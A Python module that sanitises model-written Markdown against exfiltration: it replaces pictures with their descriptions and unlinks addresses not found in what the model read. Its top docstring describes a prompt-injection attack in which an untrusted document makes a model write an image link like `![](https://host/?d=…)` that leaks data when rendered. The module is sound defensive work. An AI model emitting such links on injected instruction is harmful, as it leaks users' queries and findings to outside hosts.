"""Links and pictures of a draft: an address is kept only where what was read holds it.

A document that nobody should have trusted can tell a model to write `![](https://host/?d=…)`: a program that renders
the answer fetches it, and so tells the host what was asked and found. Our page builds a tree of its own; here the text
itself is bounded, for those who read it by the API. Code is left as it is: nobody fetches what stands there.
"""

import re
from collections.abc import Callable, Collection, Iterator, Sequence
from functools import lru_cache
from urllib.parse import unquote

from markdown_it import MarkdownIt
from markdown_it.token import Token

from tasks.answer.markdown import code_ranges, is_allowed, urls
from tasks.commonmark import compiled

_ADDRESS = r"(?:<[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()]*)*)"
_TITLE = r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?"
_PICTURE = re.compile(rf"!\[(?P<words>[^\[\]]*)\]\(\s*{_ADDRESS}{_TITLE}\s*\)")
_TARGET = re.compile(rf"\]\(\s*(?P<address>{_ADDRESS}){_TITLE}\s*\)")
_DEFINITION = re.compile(rf"^[ >]*\[[^\[\]]+\]:[ \t]*\n?[ \t]*(?P<address>{_ADDRESS}){_TITLE}[ \t]*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<(?P<address>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^<>\s]*)>")
_TAG = re.compile(r"<[A-Za-z][^<>]*=[^<>]*(?:>|\Z)")
_REMOTE = re.compile(r"//|:|\\|&[#\w]+;")
"""What an address within the host that shows the answer does not have."""
_BIDIRECTIONAL = re.compile("[\u202a-\u202e\u2066-\u2069]")
_SIGN = re.compile(r"(?<=\])(?=[(:\[])|(?=!\[)|(?=<[A-Za-z/!?])")
_OPEN = re.compile(
    r"!?\[[^\[\]]*(?:\](?:\([^()]*(?:\([^()]*\)[^()]*)*)?)?\Z"  # `[words`, `[words]`, `[words](address`
    r"|\]\([^()]*(?:\([^()]*\)[^()]*)*\Z"  # the same behind words with brackets of their own
    r"|^[ >]*\[[^\[\]]+\]:[^\n]*(?:\n[^\n]*)?\Z"
    r"|<[A-Za-z][^<>]*\Z"
    r"|!\Z",
    re.MULTILINE,
)
_PARAGRAPH_END = re.compile(r"\n[ \t]*\n")

Read = Callable[[str], bool]
"""Whether an address stands in what was read."""


def bounded(text: str, texts: Sequence[str], addresses: Collection[str] = ()) -> str:
    """Return a draft that leads only where what was read leads, and that loads nothing.

    A picture becomes its description, a link to another address its words; tags that carry an address go, and so do
    the signs that turn the direction of writing. Code stays.

    Args:
        text: Markdown that a model wrote.
        texts: what it read.
        addresses: of those texts: a link may lead there too.
    """
    text = _BIDIRECTIONAL.sub("", text)
    if "](" not in text and "]:" not in text and not re.search(r"<[A-Za-z]", text):
        return text
    allowed = urls(texts) | frozenset(addresses)

    def is_read(address: str) -> bool:
        bare = address.strip("<>")
        return not _REMOTE.search(bare) or is_allowed(bare, allowed) or any(bare in each for each in texts)

    text = _outside_code(text, _PICTURE, lambda match: match["words"])
    text = _outside_code(text, _TARGET, lambda match: None if is_read(match["address"]) else "]")
    text = _outside_code(text, _DEFINITION, lambda match: None if is_read(match["address"]) else "")
    text = _outside_code(text, _AUTOLINK, lambda match: None if is_read(match["address"]) else match["address"])
    text = _outside_code(text, _TAG, lambda match: "" if _REMOTE.search(match.group()) else None)
    # What CommonMark reads otherwise than the patterns above loses the signs that would lead anywhere.
    return _outside_code(text, _SIGN, lambda _: "\\") if _leads_elsewhere(text, is_read) else text


def _outside_code(text: str, pattern: re.Pattern[str], replacement: Callable[[re.Match[str]], str | None]) -> str:
    """The text with matches outside code replaced; None: it stays."""
    changes = [(match, new) for match in pattern.finditer(text) if (new := replacement(match)) is not None]
    hidden = code_ranges(text) if changes else []
    for match, new in reversed(changes):
        if not any(start <= match.start() < end for start, end in hidden):
            text = text[: match.start()] + new + text[match.end() :]
    return text


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    return compiled(MarkdownIt("commonmark", {"html": True}).enable("table"))


def _leads_elsewhere(text: str, is_read: Read) -> bool:
    return any(_is_foreign(token, is_read) for token in _tokens(_parser().parse(text)))


def _tokens(tokens: Sequence[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _tokens(token.children or ())


def _is_foreign(token: Token, is_read: Read) -> bool:
    if token.type == "link_open":
        # The parser writes an address in percent signs.
        address = str(token.attrGet("href") or "")
        if token.info == "auto" and re.fullmatch(r"mailto:[^?]*", address):
            return False
        return not is_read(address) and not is_read(unquote(address))
    if token.type in ("html_inline", "html_block"):
        return any(_REMOTE.search(match.group()) for match in _TAG.finditer(token.content))
    return token.type == "image"


def open_link(text: str) -> int:
    """Return where a link, a picture or a tag begins that has not ended yet; the length of the text where none has."""
    start = max((match.end() for match in _PARAGRAPH_END.finditer(text)), default=0)
    match = _OPEN.search(text, start)
    return len(text) if match is None else match.start()
